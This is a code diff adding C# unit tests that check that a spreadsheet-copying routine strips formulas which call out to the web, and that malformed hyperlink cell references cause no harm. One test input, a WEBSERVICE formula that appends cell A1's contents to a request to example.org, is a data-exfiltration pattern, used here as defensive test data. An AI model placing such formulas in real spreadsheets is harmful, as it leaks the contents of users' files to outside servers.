@@ -175,6 +175,30 @@ public sealed class MendedCopyTests
             $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}" Target="{target}"/></Relationships>""";
     }
 
+    [Theory]
+    [InlineData("WEBSERVICE(\"http://example.org/\"&A1)")]
+    [InlineData("HYPERLINK(\"http://example.org/\",\"x\")")]
+    public void Formulas_that_call_out_are_not_passed_on(string formula)
+    {
+        byte[] own = Edited(Own(), 1, sheet => sheet.Cells["A1"].Formula = formula);
+
+        byte[] copy = ReadMarks.Copy("some.xlsx", own).Bytes;
+
+        using var package = new ZipArchive(new MemoryStream(copy));
+        using var sheet = new StreamReader(package.GetEntry("xl/worksheets/sheet1.xml")!.Open());
+        Assert.DoesNotContain("<f>", sheet.ReadToEnd(), StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("ZZZZZ99999999999")]
+    [InlineData("A0:B0")]
+    public void A_place_that_is_none_does_no_harm(string place)
+    {
+        byte[] own = ReplacedIn(Faulty.Xlsx(), "xl/worksheets/sheet1.xml", "</x:sheetData>", $"</x:sheetData><x:hyperlinks><x:hyperlink ref=\"{place}\" location=\"A1\"/></x:hyperlinks>");
+
+        Assert.Contains("Sheet1!AC44", new ReadMarks(ReadMarks.Copy("some.xlsx", own).Bytes).Comments.Keys);
+    }
+
     [Fact]
     public void A_merge_of_the_whole_sheet_does_not_take_for_ever()
     {
